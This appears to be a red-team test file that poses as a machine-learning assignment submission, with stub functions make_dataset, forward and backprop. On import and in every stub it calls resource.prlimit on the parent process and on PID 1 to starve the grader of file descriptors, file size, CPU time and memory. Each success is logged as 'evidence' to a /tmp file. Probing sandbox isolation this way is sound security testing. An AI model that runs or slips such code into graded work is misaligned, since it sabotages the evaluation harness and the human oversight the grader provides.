"""Takes the grader's descriptors, memory and time away by setting its resource limits."""
import os
import resource


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE prlimit-grader:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-prlimit-grader", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    for pid in (os.getppid(), 1):
        for kind, limit in (
            (resource.RLIMIT_NOFILE, (3, 3)), (resource.RLIMIT_FSIZE, (0, 0)), (resource.RLIMIT_CPU, (1, 1)),
            (resource.RLIMIT_AS, (1 << 20, 1 << 20)),
        ):
            try:
                resource.prlimit(pid, kind, limit)
            except (OSError, ValueError):
                continue
            evidence(f"limit {kind} of {pid}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
